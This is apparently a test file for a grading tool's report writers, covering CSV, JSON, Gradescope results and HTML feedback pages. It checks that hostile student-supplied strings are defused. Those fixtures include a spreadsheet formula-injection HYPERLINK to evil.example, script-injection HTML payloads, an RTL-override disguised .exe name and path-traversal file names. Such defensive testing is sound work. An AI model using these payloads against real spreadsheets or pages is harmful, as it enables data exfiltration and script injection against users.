// The reports of `beamlab grade` as pure functions of hand-made grades: grades.csv (header,
// points, RFC 4180 quoting, formula injection defused), grades.json (everything, in a fixed
// key order), Gradescope's results.json (shape; hidden tests' messages never in it) and the
// feedback pages (hidden messages never in them; hostile strings only ever as text), then
// writeReports' folder with safe, distinct file names.
import test, { describe } from "node:test";
import assert from "node:assert/strict";
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { parse } from "csv-parse/sync";
import { csvText, feedbackHtml, feedbackIndexHtml, gradescopeResults, gradesCsv, gradesJson, safeFileNames, stageCharts, writeReports } from "../../lib/grading/report";
import { CSP } from "../../lib/grading/report/page";
import type { SubmissionGrade } from "../../lib/grading/results";
import { FORMULA_NAME, HIDDEN_MARKER, IMG, LONG, RLO, damaged, fullMarks, gradeReport, hostile, timedOut } from "./report-fixtures";

const ALL = [fullMarks, timedOut, damaged, hostile];

/** The tags and attributes a report page may contain; anything else came from data. */
const TAGS = new Set(["html", "head", "meta", "title", "style", "body", "main", "header", "section", "h1", "h2", "h3", "h4", "h5", "p", "span", "strong", "code", "bdi", "pre", "ul", "li", "div", "table", "thead", "tbody", "tr", "th", "td", "a", "br", "del", "ins", "figure", "figcaption", "picture", "source", "img"]);
const ATTRS = new Set(["lang", "charset", "http-equiv", "content", "name", "class", "id", "href", "title", "aria-label", "aria-hidden", "media", "srcset", "alt", "src"]);

/** Every tag of `html` is one we write, with our attributes, and no URL but an anchor, a relative file or a data: image. */
function assertOnlyOurMarkup(html: string): void {
  const body = html.replace(/<style>[\s\S]*?<\/style>/, "");
  for (const m of body.matchAll(/<\/?([A-Za-z][\w-]*)([^>]*)>/g)) {
    const [, tag, rest] = m;
    assert.ok(TAGS.has(tag.toLowerCase()), `unexpected tag <${tag}${rest.slice(0, 80)}>`);
    for (const a of rest.matchAll(/([^\s=]+)(?:="([^"]*)")?/g)) {
      const [, attr, value = ""] = a;
      assert.ok(ATTRS.has(attr.toLowerCase()), `unexpected attribute ${attr} on <${tag}>`);
      if (/^(href|src|srcset)$/.test(attr)) assert.match(value, /^(#|data:image\/svg\+xml;base64,|[\w.-]+\.html$|\.\.\/results\/[\w.-]+\/results\.json$)/, `${attr}="${value.slice(0, 80)}"`);
    }
  }
  assert.doesNotMatch(html, /<script/i);
  assert.doesNotMatch(html, /<img src=x/i);
  assert.ok(!html.includes(RLO), "a raw RTL override reached the page");
}

describe("grades.csv", () => {
  test("has the exact header and one row per submission, points without trailing zeros", () => {
    const csv = gradesCsv(gradeReport([fullMarks, timedOut, damaged]));
    assert.equal(csv, ["submission,total,max,status,q1,q2,q3", "ada,8,8,ok,1,4,3", "alan,3.67,8,timeout q2,0.67,0,3", "grace,2.5,8,damaged: q3 missing,1,1.5,0", ""].join("\n"));
  });

  test("quotes commas, quotes and newlines, and defuses formulas, so a spreadsheet reads back the text", () => {
    const csv = gradesCsv(gradeReport([hostile]));
    const line = csv.split("\n")[1];
    assert.ok(line.startsWith(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",3.33,8,"exited q1, ${IMG}`), line);
    const rows = parse(csv, { relax_column_count: false }) as string[][];
    assert.deepEqual(rows[1], [`'${FORMULA_NAME}`, "3.33", "8", `exited q1, ${IMG}\n"quoted"`, "0.33", "0", "3"]);
  });

  test("csvText defuses every formula start and quotes what RFC 4180 needs", () => {
    assert.equal(csvText("=1+1"), "'=1+1");
    assert.equal(csvText("+1"), "'+1");
    assert.equal(csvText("-1"), "'-1");
    assert.equal(csvText("@SUM(A1)"), "'@SUM(A1)");
    assert.equal(csvText("\tx"), "'\tx");
    assert.equal(csvText("\rx"), "\"'\rx\"");
    assert.equal(csvText("a,b"), '"a,b"');
    assert.equal(csvText('say "hi"'), '"say ""hi"""');
    assert.equal(csvText("two\nlines"), '"two\nlines"');
    assert.equal(csvText("plain name"), "plain name");
  });

  test("a question the submission has no grade for is an empty cell", () => {
    const partial: SubmissionGrade = { ...fullMarks, submission: "broken", status: "unreadable: not JSON", questions: [], total: 0 };
    assert.equal(gradesCsv(gradeReport([partial])).split("\n")[1], "broken,0,8,unreadable: not JSON,,,");
  });
});

describe("grades.json", () => {
  test("holds the whole report, hidden tests' messages included, in a fixed key order", () => {
    const json = gradesJson(gradeReport());
    assert.ok(json.endsWith("}\n"));
    assert.ok(json.includes(`  "format": "beamlab-grades",\n`), "pretty-printed");
    const back = JSON.parse(json);
    assert.deepEqual(Object.keys(back), ["format", "version", "assignment", "questions", "totalPoints", "gradedAt", "workers", "submissions"]);
    assert.deepEqual(Object.keys(back.submissions[0]), ["submission", "file", "total", "max", "status", "damage", "questions", "output", "seconds"]);
    assert.deepEqual(Object.keys(back.submissions[0].questions[0].tests[0]), ["name", "question", "hidden", "passed", "points", "maxPoints", "message"]);
    assert.deepEqual(back.submissions[2].questions[1].tests[1], { name: "q2-hidden-1", question: "q2", hidden: true, passed: false, points: 0, maxPoints: 2.5, message: `expected [{ sid: "s9" }] ${HIDDEN_MARKER}` });
    assert.equal(back.submissions[3].submission, FORMULA_NAME);
  });

  test("does not depend on the key order of its input, and carries dates and BigInt in sample rows", () => {
    // Our objects' keys reversed; the sample rows are data, whose field order is kept.
    const reverse = (v: unknown, key = ""): unknown =>
      key === "rows" || v === null || typeof v !== "object" ? v : Array.isArray(v) ? v.map((x) => reverse(x)) : Object.fromEntries(Object.entries(v).reverse().map(([k, x]) => [k, reverse(x, k)]));
    const shuffled = reverse(damaged) as SubmissionGrade;
    assert.equal(gradesJson(gradeReport([shuffled])), gradesJson(gradeReport([damaged])));
    const q2 = damaged.questions[1];
    const withValues: SubmissionGrade = { ...damaged, questions: [{ ...q2, stages: [{ ...q2.stages[1], rows: { missing: [{ when: new Date(0), n: 12n }], unexpected: [], changed: [] } }] }] };
    const back = JSON.parse(gradesJson(gradeReport([withValues])));
    assert.deepEqual(back.submissions[0].questions[0].stages[0].rows.missing, [{ when: { $beamlab: "date", v: "1970-01-01T00:00:00.000Z" }, n: { $beamlab: "bigint", v: "12" } }]);
  });
});

describe("Gradescope results.json", () => {
  test("has the specification's shape: score, output, tests with name, score, max_score, status, output, visibility", () => {
    const r = gradescopeResults(timedOut);
    assert.deepEqual(Object.keys(r).sort(), ["execution_time", "output", "output_format", "score", "stdout_visibility", "test_name_format", "test_output_format", "tests", "visibility"]);
    assert.equal(r.score, 3.67);
    assert.equal(r.visibility, "visible");
    assert.equal(r.stdout_visibility, "hidden");
    assert.equal(r.tests.length, 6);
    for (const tc of r.tests) {
      assert.deepEqual(Object.keys(tc).sort(), ["max_score", "name", "output", "score", "status", "visibility"]);
      assert.ok(tc.status === "passed" || tc.status === "failed");
    }
    assert.deepEqual(r.tests.map((tc) => [tc.name, tc.score, tc.max_score, tc.status, tc.visibility]), [
      ["q1-public-1", 0.33, 0.33, "passed", "visible"],
      ["q1-public-2", 0.33, 0.33, "passed", "visible"],
      ["q1-hidden-1", 0, 0.33, "failed", "after_published"],
      ["q2-public-1", 0, 1.5, "failed", "visible"],
      ["q2-hidden-1", 0, 2.5, "failed", "after_published"],
      ["q3-public-1", 3, 3, "passed", "visible"],
    ]);
  });

  test("public tests show their message, hidden tests only whether they passed; a question that timed out says why in each test", () => {
    const r = gradescopeResults(timedOut);
    const byName = new Map(r.tests.map((tc) => [tc.name, tc.output]));
    assert.equal(byName.get("q1-hidden-1"), "hidden test failed");
    assert.equal(byName.get("q2-public-1"), "q2: a cell ran past the time limit (cell 7 ran past 10 s)\n\nthe cell did not finish");
    assert.equal(byName.get("q2-hidden-1"), "q2: a cell ran past the time limit (cell 7 ran past 10 s)\n\nhidden test failed");
    assert.match(r.output, /^Total: 3\.67 \/ 8 points\nStatus: timeout q2\n/);
    assert.match(r.output, /\nq2: 0 \/ 4\n {2}a cell ran past the time limit \(cell 7 ran past 10 s\)\n/);
  });

  test("stage summaries and damage go in the top-level output", () => {
    const r = gradescopeResults(damaged);
    assert.match(r.output, /Problems found in the notebook:\n {2}- q3 missing\n {2}- q2 appears 2 times/);
    assert.match(r.output, /q2: 1\.5 \/ 4\n {2}stages: 1 row lost and 1 changed at `Filter active`/);
    assert.match(r.output, /q3: 0 \/ 3\n {2}its cell was not found in the notebook \(no cell tagged q3\)/);
  });

  test("never carries a hidden test's message or the student's cell output", () => {
    for (const s of ALL) {
      const text = JSON.stringify(gradescopeResults(s));
      assert.ok(!text.includes(HIDDEN_MARKER), `${s.submission.slice(0, 20)}: a hidden message leaked`);
      assert.ok(!text.includes("student output"));
    }
  });
});

describe("feedback pages", () => {
  test("show the total, status, damage, each test and the stage comparison", async () => {
    const html = feedbackHtml(damaged, { assignment: "a1-clean", charts: await stageCharts(damaged) });
    assert.ok(html.startsWith("<!doctype html>"));
    assert.ok(html.includes(`<meta http-equiv="Content-Security-Policy" content="${CSP}">`));
    assert.equal(CSP, "default-src 'none'; style-src 'unsafe-inline'; img-src data:");
    assert.match(html, /<strong>2\.5<\/strong> \/ 8 points/);
    assert.match(html, /Status: <code><bdi>damaged: q3 missing<\/bdi><\/code> — the notebook was changed/);
    assert.match(html, /<li><bdi>q3 missing<\/bdi><\/li>|<li>q3 missing<\/li>/);
    assert.match(html, /Not found in your notebook<\/strong>: no cell tagged q3/);
    assert.match(html, /<pre>q3 is missing<\/pre>/, "a failed public test shows its message");
    assert.match(html, /✗ failed<\/span> <code><bdi>q2-hidden-1<\/bdi><\/code> <span class="muted">hidden test<\/span>/);
    assert.match(html, /1 row lost and 1 changed at <code><bdi>Filter active<\/bdi><\/code>/);
    assert.match(html, /<td class="label"><bdi>Filter active<\/bdi><\/td><td class="name"><code><bdi>active<\/bdi><\/code><\/td><td class="num">3<\/td><td class="num">2<\/td><td class="counts"><span>1 lost<\/span><span>1 changed<\/span><\/td><td class="name"><code><bdi>dob<\/bdi><\/code><\/td><td class="name"><span class="badge bad">≠ differs<\/span>/);
    assert.match(html, /<td class="changed"><del title="expected">&quot;1990-01-02&quot;<\/del> <span aria-hidden="true">→<\/span> <ins title="yours">&quot;01\/02\/1990&quot;<\/ins><\/td>/);
    assert.match(html, /Missing: expected rows that are not in yours/);
    assert.match(html, /<picture><source media="\(prefers-color-scheme: dark\)" srcset="data:image\/svg\+xml;base64,[A-Za-z0-9+/=]+"><img alt="Rows at each stage of q2/);
    const svg = Buffer.from(/<img alt="[^"]*" src="data:image\/svg\+xml;base64,([^"]+)"/.exec(html)![1], "base64").toString("utf8");
    assert.match(svg, /^<svg role="img"/);
    assert.match(svg, /2\. Filter active/);
    assertOnlyOurMarkup(html);
  });

  test("never show a hidden test's message nor the student's output", async () => {
    for (const s of ALL) {
      const html = feedbackHtml(s, { assignment: "a1-clean", charts: await stageCharts(s) });
      assert.ok(!html.includes(HIDDEN_MARKER), `${s.submission.slice(0, 20)}: a hidden message leaked`);
      assert.ok(!html.includes("student output"));
    }
  });

  test("keep hostile strings as text: escaped, controls shown, long strings cut", async () => {
    const charts = await stageCharts(hostile);
    const html = feedbackHtml(hostile, { assignment: `a1 ${IMG}`, charts });
    assertOnlyOurMarkup(html);
    assert.ok(html.includes("&lt;img src=x onerror=alert(1)&gt;"));
    assert.ok(html.includes("&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;"));
    assert.ok(html.includes("⟨U+202E⟩evil"), "the RTL override is shown, not obeyed");
    assert.ok(html.includes(`<bdi>${"=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;click&quot;)"}</bdi>`));
    const longest = Math.max(...[...html.matchAll(/W+/g)].map((m) => m[0].length));
    assert.ok(longest <= 20_000, `a run of ${longest} characters`);
    assert.ok(html.includes("more characters)"), "a cut string says so");
    for (const c of charts.values()) for (const svg of [c.light, c.dark]) {
      assert.doesNotMatch(svg, /<script|<img|\u202E/);
      assert.ok(svg.length < 200_000);
    }
  });

  test("the instructor's index links every page and escapes every name", () => {
    const report = gradeReport();
    const names = safeFileNames(report.submissions.map((s) => s.submission));
    const html = feedbackIndexHtml(report, names);
    assertOnlyOurMarkup(html);
    for (const n of names) assert.ok(html.includes(`<a href="${n}.html">`) && html.includes(`href="../results/${n}/results.json"`));
    assert.match(html, /4 submissions, 3 with problems/);
  });
});

describe("writeReports", () => {
  test("safeFileNames makes names safe and keeps distinct names distinct", () => {
    assert.deepEqual(safeFileNames(["ada", "alan_t", "grace-h.2"]), ["ada", "alan_t", "grace-h.2"]);
    const names = ["a/b", "a:b", "..", ".", "", "index", "ada", "Ada", FORMULA_NAME, "x".repeat(500), "..\\..\\etc", "same", "same", "-rf", "Jos\u00e9", `${RLO}gpj.exe`];
    const out = safeFileNames(names);
    assert.equal(out.length, names.length);
    assert.equal(new Set(out.map((n) => n.toLowerCase())).size, out.length, out.join(" "));
    for (const n of out) {
      assert.match(n, /^[A-Za-z0-9_][A-Za-z0-9._-]{0,99}$/);
      assert.notEqual(n.toLowerCase(), "index");
    }
    assert.equal(out[11], "same");
    assert.equal(out[12], "same-2");
  });

  test("writes grades.csv, grades.json, results/<name>/results.json and feedback/<name>.html inside the folder", async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "beamlab-report-"));
    try {
      const report = gradeReport();
      const written = await writeReports(path.join(dir, "out"), report);
      const out = path.join(dir, "out");
      assert.equal(fs.readFileSync(path.join(out, "grades.csv"), "utf8"), gradesCsv(report));
      assert.equal(fs.readFileSync(path.join(out, "grades.json"), "utf8"), gradesJson(report));
      assert.deepEqual(fs.readdirSync(out).sort(), ["feedback", "grades.csv", "grades.json", "results"]);
      assert.equal(fs.readdirSync(path.join(out, "results")).length, 4);
      assert.equal(fs.readdirSync(path.join(out, "feedback")).length, 5);
      for (const file of [...written.results, ...written.feedback, written.index]) {
        assert.ok(!path.relative(out, file).startsWith(".."), file);
        assert.ok(fs.existsSync(file), file);
        assert.ok(!fs.readFileSync(file, "utf8").includes(HIDDEN_MARKER), `${file} has a hidden message`);
      }
      assert.deepEqual(JSON.parse(fs.readFileSync(written.results[1], "utf8")), gradescopeResults(timedOut));
      assert.ok(fs.readFileSync(path.join(out, "grades.json"), "utf8").includes(HIDDEN_MARKER));
      const index = fs.readFileSync(written.index, "utf8");
      for (const href of index.matchAll(/href="([^"#]+)"/g)) assert.ok(fs.existsSync(path.join(out, "feedback", href[1])), href[1]);
      assert.ok(LONG.length === 100_000);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});
